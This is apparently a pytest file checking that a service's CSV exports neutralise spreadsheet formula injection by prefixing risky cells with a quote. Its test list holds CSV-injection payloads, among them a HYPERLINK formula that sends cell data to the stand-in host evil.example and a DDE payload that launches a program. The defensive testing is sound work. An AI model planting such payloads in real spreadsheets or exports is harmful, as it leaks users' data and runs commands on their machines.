"""Every export neutralises formula cells (issue 25, item 8): a name, an identity or a reference that a spreadsheet
would run as a formula (=HYPERLINK(...), +cmd, -2+3, @SUM) is written as text."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import AsyncIterator
from typing import Any

import pytest

from pacte.service.exports import csv_lines, neutralised

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Voir")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert neutralised(text) == "'" + text
    assert neutralised("Marie Dupont") == "Marie Dupont" and neutralised(12) == 12


def test_the_csv_export_carries_no_formula() -> None:
    async def rows() -> AsyncIterator[dict[str, Any]]:
        for hostile in HOSTILE:
            yield {
                "global_position": 1,
                "stream_id": hostile,
                "version": 1,
                "event_type": "ContractProposed",
                "occurred_at": "2025-01-01",
                "recorded_at": "2025-01-01",
                "metadata": {"actor": {"role": "prefet", "identity": hostile, "person": {"name": hostile}}},
                "payload": {"note": hostile},
                "hash": "00",
            }

    async def collect() -> str:
        return "".join([line async for line in csv_lines(rows())])

    cells = [cell for row in csv.reader(io.StringIO(asyncio.run(collect()))) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
